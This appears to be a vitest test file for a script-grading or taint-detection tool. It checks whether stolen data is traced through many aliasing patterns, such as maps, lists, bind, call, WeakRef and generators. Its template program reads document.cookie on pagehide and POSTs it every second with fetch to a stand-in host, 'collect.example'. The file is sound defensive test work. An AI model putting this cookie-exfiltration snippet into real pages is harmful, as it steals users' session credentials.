import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * Data that is put into an object by another name than it is found by: what a table or a list gave, what a loop or a callback
 * goes through, what a function was handed, what was waited for. Each: how the object is held, how `set` puts data into it
 * and what is sent in the end.
 */
const ALIASES: readonly (readonly [name: string, held: string, set: string, sent: string])[] = [
  [
    'made where the table has none',
    'const m = new WeakMap(), K = {}; const of = (k) => { let s = m.get(k); if (!s) { s = { n: 0 }; m.set(k, s); } return s; };',
    'const s = of(K); s.v = v;',
    'of(K).v',
  ],
  [
    'functions of a list of parts that is gone through',
    'const of = (e, k) => { const m = e[0]; let s = m.get(k); if (!s) { s = {}; m.set(k, s); } return s; }; const put = (e, k, v) => { const f = e[1]; const s = f(e, k); s.v = v; }; const get = (e, k) => { const f = e[1]; return f(e, k).v; }; const make = (...own) => [new WeakMap(), of, put, get].map((part, i) => own[i] || part); const b = make(), K = {};',
    'const f = b[2]; f(b, K, v);',
    'b[3](b, K)',
  ],
  ['one of six of a list', 'const l = [{}, {}, {}, {}, {}, {}];', 'const s = l[self.n]; s.v = v;', 'l'],
  ['of a table', "const m = new Map([['k', {}]]);", "const s = m.get('k'); s.v = v;", "m.get('k').v"],
  [
    'of one of two tables',
    "const a = new Map([['k', {}]]), b = new Map([['k', {}]]);",
    "let s = a.get('k'); if (!s) s = b.get('k'); s.v = v;",
    "b.get('k').v",
  ],
  ['found in a list', 'const l = [{ k: 1 }, { k: 2 }];', 'const s = l.findLast((x) => x.k); s.v = v;', 'l'],
  ['chosen of a list', 'const l = [{}, {}];', 'const [s] = l.filter((x) => x); s.v = v;', 'l'],
  ['each of a list', 'const l = [{}, {}];', 'for (const s of l) s.v = v;', 'l'],
  ['each of a list by a function', 'const l = [{}, {}];', 'l.forEach((s) => { s.v = v; });', 'l'],
  ['each value', 'const o = { a: {}, b: {} };', 'for (const s of Object.values(o)) s.v = v;', 'o'],
  ['each entry', 'const o = { a: {}, b: {} };', 'for (const [, s] of Object.entries(o)) s.v = v;', 'o'],
  ['each of a map', "const m = new Map([['k', {}]]);", 'm.forEach((s) => { s.v = v; });', '[...m.values()]'],
  ['by a key, made where there is none', 'const o = {};', 'const s = (o[self.name] ??= {}); s.v = v;', 'o'],
  [
    'a list of one that was found',
    'const l = [{ k: 1, rows: [] }];',
    'const s = l.find((x) => x.k); s.rows.push(v);',
    'l',
  ],
  ['handed on by its number', 'const l = [{}]; const put = (s, v) => { s.v = v; };', 'put(l[self.n], v);', 'l'],
  [
    'handed on by another name',
    'const o = { a: {} }; const put = (s, v) => { s.v = v; };',
    'const s = o.a; put(s, v);',
    'o',
  ],
  [
    'taken apart by who is handed it',
    'const o = { a: {} }; const put = ({ a }, v) => { a.v = v; };',
    'put(o, v);',
    'o',
  ],
  ['bound to', 'const o = { a: {} }; function put(v) { this.v = v; } const f = put.bind(o.a);', 'f(v);', 'o.a.v'],
  [
    'the `this` of a call',
    "const m = new Map([['k', {}]]); function put(v) { this.v = v; }",
    "put.call(m.get('k'), v);",
    "m.get('k').v",
  ],
  ['the `this` of a callback', 'const o = { a: {} };', '[v].forEach(function (x) { this.v = x; }, o.a);', 'o.a.v'],
  ['held weakly', 'const o = { a: {} }, w = new WeakRef(o.a);', 'w.deref().v = v;', 'o.a.v'],
  [
    'a class whose method is called',
    'class P { static put(x) { this.v = x; } } class Q extends P {}',
    'Q.put(v);',
    'Q.v',
  ],
  ['the last of a chain', 'const o = { n: { n: null } };', 'let s = o; while (s.n) s = s.n; s.v = v;', 'o'],
  [
    'the end of a list of links',
    'const o = { n: null }; let end = o;',
    'const next = { v, n: null }; end.n = next; end = next;',
    'o',
  ],
  ['waited for', 'const o = { a: {} }; const of = async () => o.a;', 'of().then((s) => { s.v = v; });', 'o'],
  [
    'what a generator yields',
    'const l = [{}, {}]; function* each() { for (const x of l) yield x; }',
    'for (const s of each()) s.v = v;',
    'l',
  ],
];

const program = (held: string, set: string, sent: string): string =>
  `${held} const set = (v) => { ${set} }; addEventListener('pagehide', () => set(document.cookie)); setInterval(() => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(${sent}) }), 1e3);`;

it.each(ALIASES)('%s', async (_, held, set, sent) => {
  expect(await graded({ content: program(held, set, sent) })).toBe('F');
  expect(await graded({ content: program(held, set, "'nothing'") })).toMatch(/^A/);
});

it.each([
  ['another list', 'const l = [{ n: 1 }], other = [{ n: 2 }];', 'for (const s of l) s.v = v;', 'other'],
  ['another `this`', 'const o = { a: {}, b: {} }; function put(v) { this.v = v; }', 'put.call(o.b, v);', 'o.a.v'],
  ['another property', "const m = new Map([['k', { n: 1 }]]);", "const s = m.get('k'); s.v = v;", "m.get('k').n"],
] as const)('not of %s', async (_, held, set, sent) => {
  expect(await graded({ content: program(held, set, sent) })).toMatch(/^A/);
});

it('what a class gives a field', async () => {
  const reading = (field: string): string =>
    `class A { v = document.cookie; n = 1; go() { fetch('https://collect.example/', { method: 'POST', body: this.${field} }); } } new A().go();`;
  expect(await graded({ content: reading('v') })).toBe('F');
  expect(await graded({ content: reading('n') })).toMatch(/^A/);
});
